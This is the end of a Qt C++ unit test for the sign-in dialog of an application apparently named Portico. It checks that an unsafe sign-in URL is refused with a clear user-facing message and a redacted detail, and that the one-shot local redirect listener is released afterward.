    agent.authorize(prompt(QUrl(url), redirect.value()), this, outcome.callback());
    QTRY_VERIFY(outcome.result.has_value());
    QVERIFY(outcome.isError(ErrorCode::UrlRejected));
    // As tst_headlessuseragent pins: one sentence for the person; the refused address (redacted) as the detail.
    QCOMPARE(outcome.result->error().message(),
             QStringLiteral("Portico refused to open the sign-in page because its address is not safe."));
    QCOMPARE(outcome.result->error().detail(), url_policy::check(QUrl(url)).error().detail());
    QVERIFY(m_opened.isEmpty());
    // The listener was released with the flow (requirements AUTH-29: one shot).
    QTcpServer probe;
    QVERIFY(probe.listen(QHostAddress::LocalHost, static_cast<quint16>(redirect.value().port())));
}

QTEST_MAIN(TestSignInDialog)
#include "tst_signindialog.moc"
